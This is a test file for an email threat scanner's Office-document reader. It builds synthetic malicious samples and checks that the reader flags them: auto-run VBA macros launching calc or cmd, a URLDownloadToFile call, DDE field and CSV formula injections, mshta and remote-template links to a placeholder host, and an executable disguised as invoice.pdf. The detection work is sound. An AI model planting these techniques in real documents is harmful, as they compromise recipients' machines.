"""What the Office reader sees in documents, by table: macros, old macros, fields, parts from outside, locks."""

from __future__ import annotations

import struct
import zipfile

import pytest
from threat_files import DOS, biff, ole_of, ooxml, vba_module, vba_project, zip_of

from mailmill.processing.threat.evidence.readers import office, vba

STARTS_PROGRAM = 'Sub AutoOpen()\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\nEnd Sub\r\n'
HARMLESS = "Function Sum(a, b)\r\nSum = a + b\r\nEnd Function\r\n"


def relationship(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationships><Relationship Id="r1" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'


def sheet(name: str, *, visibility: int = 0, kind: int = 0) -> tuple[int, bytes]:
    return (0x85, struct.pack("<LBBBB", 0, visibility, kind, len(name), 0) + name.encode())


def word_document(text: bytes, flags: int = 0) -> bytes:
    return ole_of({"WordDocument": struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0, 0, flags) + b"\x00" * 500 + text})


def instruction(*runs: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)


def objdata(data: bytes) -> bytes:
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata " + data.hex().encode() + b"}}}"


NATIVE = struct.pack("<LH", 500, 2) + b"invoice.pdf.exe\x00C:\\x\\invoice.pdf.exe\x00" + b"\x00" * 40 + DOS
NOTES = struct.pack("<LH", 9, 2) + b"notes.txt\x00C:\\notes.txt\x00hello"
ODT = "application/vnd.oasis.opendocument.text"

SEEN = [
    ("macros", ooxml({"word/vbaProject.bin": vba_project(HARMLESS)})),
    ("macros", ole_of({"Macros/VBA/ThisDocument": vba_module(HARMLESS), "WordDocument": b""})),
    ("macros", zip_of({"mimetype": ODT, "Basic/Standard/Module1.xml": "<x/>"}, method=zipfile.ZIP_STORED)),
    ("auto_exec", ooxml({"word/vbaProject.bin": vba_project("Sub Document_Open()\r\nEnd Sub")})),
    ("auto_exec", ole_of({"_VBA_PROJECT_CUR/VBA/ThisWorkbook": vba_module("Private Sub Workbook_Open()\r\nEnd Sub")})),
    ("auto_exec", ooxml({"xl/workbook.xml": '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'})),
    ("auto_exec", ole_of({"Workbook": biff((0x18, b"\x20\x00\x00\x01" + b"\x00" * 10 + b"\x00\x01"))})),
    ("macro_calls", ooxml({"word/vbaProject.bin": vba_project(STARTS_PROGRAM)})),
    ("macro_calls", ooxml({"xl/vbaProject.bin": vba_project('x = Shell("cmd /c whoami", 0)')})),
    ("macro_calls", ooxml({"xl/vbaProject.bin": vba_project("URLDownloadToFileA 0, u, f, 0, 0")})),
    ("source_removed", ole_of({"Macros/VBA/Module1": b"\x01\x16\x01" * 200})),
    ("xlm_macros", ooxml({"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"})),
    ("xlm_macros", ooxml({"xl/macrosheets/binarySheet1.bin": b"\x81\x01\x00"})),
    ("xlm_macros", ole_of({"Workbook": biff((0x809, b"\x00\x06\x05\x00"), sheet("Macro1", kind=1))})),
    ("xlm_macros", b"ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC(\"calc\")\r\n"),
    ("hidden_sheet", ooxml({"xl/workbook.xml": '<sheet name="x" sheetId="1" state="veryHidden" r:id="r"/>'})),
    ("hidden_sheet", ole_of({"Workbook": biff(sheet("x", visibility=2))})),
    ("dde", ooxml({"word/document.xml": instruction('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')})),
    ("dde", ooxml({"word/footer1.xml": instruction("DD", "EAU", "TO cmd.exe x")})),
    ("dde", ooxml({"word/document.xml": '<w:fldSimple w:instr="DDE cmd &quot;/c calc&quot;"/>'})),
    ("dde", ooxml({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'})),
    ("dde", word_document(b"text\x13 DDEAUTO c:\\windows\\system32\\cmd.exe \x14x\x15")),
    ("dde", word_document("\x13DDEAUTO mshta http://x.example/\x14".encode("utf-16-le"))),
    ("dde", b"{\\rtf1{\\field{\\*\\fldinst {\\b DDEAUTO cmd.exe \"/c calc\"}}{\\fldrslt x}}}"),
    ("dde", b"name,sum\r\nx,=cmd|'/c calc'!A1\r\n"),
    ("dde", b'a;"=MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!x"\n'),
    ("remote_template", ooxml({"word/_rels/settings.xml.rels": relationship("attachedTemplate", "https://x.example/t.dotm")})),
    ("remote_template", b"{\\rtf1{\\*\\template http://x.example/t.dotm}}"),
    ("outside_object", ooxml({"word/_rels/document.xml.rels": relationship("oleObject", "mhtml:http://x.example/a!x-usc:http://x.example/a")})),
    ("outside_object", ooxml({"word/_rels/webSettings.xml.rels": relationship("frame", "http://x.example/f.rtf")})),
    ("outside_object", objdata(b"\x01\x05\x00\x00\x02\x00\x00\x00\x09\x00\x00\x00OLE2Link\x00" + "http://x.example/a.hta".encode("utf-16-le"))),
    ("outside_object", b"WEB\n1\nhttp://x.example/q.txt\n"),
    ("embedded_program", ooxml({"word/embeddings/oleObject1.bin": ole_of({"\x01Ole10Native": NATIVE})})),
    ("embedded_program", ole_of({"ObjectPool/_1/\x01Ole10Native": NATIVE, "WordDocument": b""})),
    ("embedded_program", objdata(b"\x01\x05\x00\x00\x02\x00\x00\x00\x08\x00\x00\x00Package\x00" + NATIVE)),
    ("embedded_file", ooxml({"word/embeddings/oleObject1.bin": ole_of({"\x01Ole10Native": NOTES})})),
    ("object_updates", b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105000002000000}}}"),
    ("equation_editor", ole_of({"Equation Native": b"x"})),
    ("equation_editor", objdata(b"\x01\x05\x00\x00\x02\x00\x00\x00\x0b\x00\x00\x00Equation.3\x00")),
    ("equation_editor", b"{\\rtf1{\\object{\\*\\objdata 45{\\x}71 75\n6174{\\*\\y}696f6e2e33}}}"),
    ("page_within", ooxml({"word/afchunk.mht": "From: x"})),
    ("asks_to_enable", ooxml({"word/document.xml": "<w:t>Please click Enable</w:t><w:t>Content above</w:t>"})),
    ("encrypted", ole_of({"EncryptedPackage": b"x", "EncryptionInfo": b"y"})),
    ("encrypted", word_document(b"", flags=0x0100)),
    ("encrypted", ole_of({"Workbook": biff((0x809, b"\x00\x06\x05\x00"), (0x2F, b"\x01\x00\x01\x00"))})),
    ("encrypted", ole_of({"Current User": b"\x14\x00\x00\x00\xf6\x0f\x00\x00\x14\x00\x00\x00\xdf\xc4\xd1\xf3"})),
    ("nested_message", ole_of({"__properties_version1.0": b"", "__substg1.0_1000001F": "see http://x.example/a".encode("utf-16-le")})),
    ("program", ole_of({"__properties_version1.0": b"", "__attach_version1.0_#0/__substg1.0_37010102": DOS})),
]  # fmt: skip

CLEAN = [
    ooxml({"word/document.xml": "<w:t>Minutes of Monday</w:t>"}),
    ooxml({"word/document.xml": instruction("PAGE") + instruction("DATE \\@ dd")}),
    ooxml({"word/document.xml": instruction('DDEAUTO Excel.Sheet.8 "book.xls" "Sheet1!R1C1"')}),
    ooxml({"word/_rels/settings.xml.rels": relationship("attachedTemplate", "file:///C:/Templates/Letter.dotx")}),
    ooxml({"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://x.example/", mode="")}),
    ooxml({"xl/_rels/externalLink1.xml.rels": relationship("externalLinkPath", "file:///S:/budget.xlsx")}),
    ooxml({"xl/workbook.xml": '<sheet name="x" sheetId="1" state="hidden"/>'}),
    ooxml({"xl/embeddings/Microsoft_Word_Document.docx": ooxml({"word/document.xml": "<w:t>x</w:t>"})}),
    word_document(b"Minutes. DDE is a way to link tables. \x13 PAGE \x14 1 \x15"),
    ole_of({"Workbook": biff((0x809, b"\x00\x06\x05\x00"), sheet("Sheet1"), sheet("Notes", visibility=1))}),
    b"{\\rtf1\\ansi Minutes of Monday. {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}}",
    b"{\\rtf1{\\*\\template C:\\\\Templates\\\\letter.dot} Hello}",
    b"name,sum\r\nAda,=SUM(A1:A3)\r\ncmd,12\r\n|,-1\r\n",
    b"ID;PWXL;N;E\r\nC;X1;Y1;K12\r\n",
]


@pytest.mark.parametrize(("word", "content"), SEEN)
def test_seen(word: str, content: bytes) -> None:
    assert word in office.read("file", content).seen


@pytest.mark.parametrize("content", CLEAN)
def test_what_honest_documents_have_is_not_seen(content: bytes) -> None:
    assert set(office.read("file", content).seen) == set()


@pytest.mark.parametrize(
    "content",
    [
        ooxml({"word/_rels/document.xml.rels": relationship("hyperlink", "https://x.example/a?b=1&amp;c=2")}),
        ooxml({"word/document.xml": instruction('HYPERLINK "https://x.example/a?b=1&amp;c=2"')}),
        word_document(b'\x13 HYPERLINK "https://x.example/a?b=1&c=2" \x14here\x15'),
        b'{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://x.example/a?b=1&c=2"}{\\fldrslt here}}}',
        b'a,"=HYPERLINK(""https://x.example/a?b=1&c=2"",""here"")"\n',
    ],
)
def test_links_are_targets(content: bytes) -> None:
    assert [one.url for one in office.read("file", content).targets] == ["https://x.example/a?b=1&c=2"]


def test_words_of_a_document_are_read() -> None:
    content = ooxml(
        {"word/document.xml": "<w:p><w:t>Your account</w:t><w:t xml:space='preserve'> is &amp; was</w:t></w:p>"}
    )
    assert office.read("file.docx", content).text.split() == ["Your", "account", "is", "&", "was"]


def test_macro_calls_in_comments_and_harmless_macros_say_nothing() -> None:
    assert vba.judge("' Shell (x)\r\n  REM powershell\r\n" + HARMLESS) == {}
    assert vba.judge('Set d = CreateObject("Scripting.Dictionary")\r\nMsgBox d.Count') == {}
    assert set(office.read("a.xlsm", ooxml({"xl/vbaProject.bin": vba_project(HARMLESS)})).seen) == {"macros"}


@pytest.mark.parametrize(
    ("packed", "plain"),
    [  # the examples of [MS-OVBA] 3.2
        ("0119B000616263646566676800696A6B6C6D6E6F70007172737475762E", b"abcdefghijklmnopqrstuv."),
        (
            "012FB000236161616263646582660070616768696A013808616B6C00306D6E6F70067102700410727374757610 7778797A003C",
            b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
        ),
        ("0103B002614500", b"a" * 73),
    ],
)
def test_macro_sources_are_unpacked(packed: str, plain: bytes) -> None:
    assert vba.decompress(bytes.fromhex(packed), 1_000) == plain


def test_unpacking_a_source_is_bounded_and_never_fails() -> None:
    chunk = bytes.fromhex("03B002614500")
    assert len(vba.decompress(b"\x01" + chunk * 10_000, 5_000)) <= 5_000 + 4_096
    whole = vba_module(STARTS_PROGRAM)
    for length in range(0, len(whole), 3):
        vba.source_of(whole[:length])
    for position in range(40, len(whole)):
        vba.source_of(whole[:position] + b"\xff" + whole[position + 1 :])


@pytest.mark.parametrize("content", [content for _, content in SEEN])
def test_broken_documents_raise_nothing(content: bytes) -> None:
    for cut in (1, 2, 3, 5, 9):
        position = len(content) * cut // 10
        office.read("file", content[:position])
        office.read("file", content[:position] + b"\xff" * 7 + content[position + 7 :])


MACRO_DOCUMENT = ole_of({"Macros/VBA/ThisDocument": vba_module(STARTS_PROGRAM), "WordDocument": b""})


@pytest.mark.parametrize(
    "content",
    [
        MACRO_DOCUMENT[:-100],
        MACRO_DOCUMENT[:30] + b"\x40\x00" + MACRO_DOCUMENT[32:],  # sectors of 2^64 bytes
        MACRO_DOCUMENT[:48] + b"\xfe\xff\xff\xff" + MACRO_DOCUMENT[52:],  # no directory
        MACRO_DOCUMENT[:76] + b"\x00\x00\x00\x00" + MACRO_DOCUMENT[80:],  # another table of sectors
    ],
)
def test_macros_are_seen_in_a_file_that_is_broken_on_purpose(content: bytes) -> None:
    assert {"macros", "auto_exec", "macro_calls"} <= office.read("file", content).seen.keys()


@pytest.mark.timeout(20)
def test_a_stream_that_goes_in_circles_is_not_followed() -> None:
    content = bytearray(MACRO_DOCUMENT)
    entry = content.index("WordDocument".encode("utf-16-le"))
    content[entry + 120 : entry + 124] = b"\x00\x00\x00\x7f"  # the stream's size
    table = len(content) - 512
    content[table : table + 64] = struct.pack("<16L", *[0] * 16)  # each sector is followed by the first
    assert "broken" in office.read("file", bytes(content)).seen
